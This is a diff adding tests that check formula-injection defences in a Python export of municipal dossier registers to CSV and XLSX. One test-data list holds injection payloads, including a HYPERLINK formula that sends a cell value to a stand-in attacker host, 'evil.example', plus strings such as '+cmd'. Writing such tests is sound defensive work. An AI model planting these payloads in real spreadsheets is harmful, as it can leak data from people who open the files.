@@ -3,6 +3,7 @@ streamed with a constant number of queries and exported as CSV, XLSX and an A4 l
 
 import csv
 import io
+import zipfile
 from datetime import datetime
 from zoneinfo import ZoneInfo
 
@@ -189,3 +190,30 @@ def test_an_empty_year_prints_an_empty_book(commune):
     assert tracking_book_pdf(agency=commune, year=2001).startswith(b"%PDF-")
     [header] = tracking_book_csv(agency=commune, year=2001)
     assert list(csv.reader([header.removeprefix("\ufeff")])) == [list(HEADERS)]
+
+
+FORMULA_NAMES = ['=HYPERLINK("http://evil.example/"&D4,"x")', "@SUM(1+1)", "-2+3", "+cmd"]
+
+
+def test_names_that_look_like_formulas_stay_text_in_the_xlsx(register, commune):
+    names = [*FORMULA_NAMES, "#N/A"]
+    dossiers = [register(name) for name in names]
+    book = tracking_book_xlsx(agency=commune, year=timezone.localtime(dossiers[0].received_at).year)
+    with zipfile.ZipFile(io.BytesIO(book)) as archive:
+        sheet_xml = archive.read("xl/worksheets/sheet1.xml").decode()
+    assert "<f>" not in sheet_xml and "HYPERLINK" in sheet_xml
+    sheet = load_workbook(io.BytesIO(book)).active
+    cells = [row[4] for row in sheet.iter_rows(min_row=3)]
+    assert [cell.value for cell in cells] == names
+    assert {cell.data_type for cell in cells} == {"s"}
+    assert all(cell.quotePrefix for cell in cells)
+
+
+def test_names_that_look_like_formulas_are_quoted_in_the_csv(register, commune):
+    hostile = [*FORMULA_NAMES, "\tTab", "\rReturn"]
+    dossiers = [register(name) for name in [*hostile, "Nguyễn Văn An"]]
+    chunks = tracking_book_csv(agency=commune, year=timezone.localtime(dossiers[0].received_at).year)
+    rows = list(csv.reader(io.StringIO("".join(chunks).removeprefix("\ufeff"))))
+    names = [row[4] for row in rows[1:]]
+    assert names == ["'" + name for name in hostile] + ["Nguyễn Văn An"]
+    assert rows[1][1] == dossiers[0].code  # codes, dates and counts are left as they are
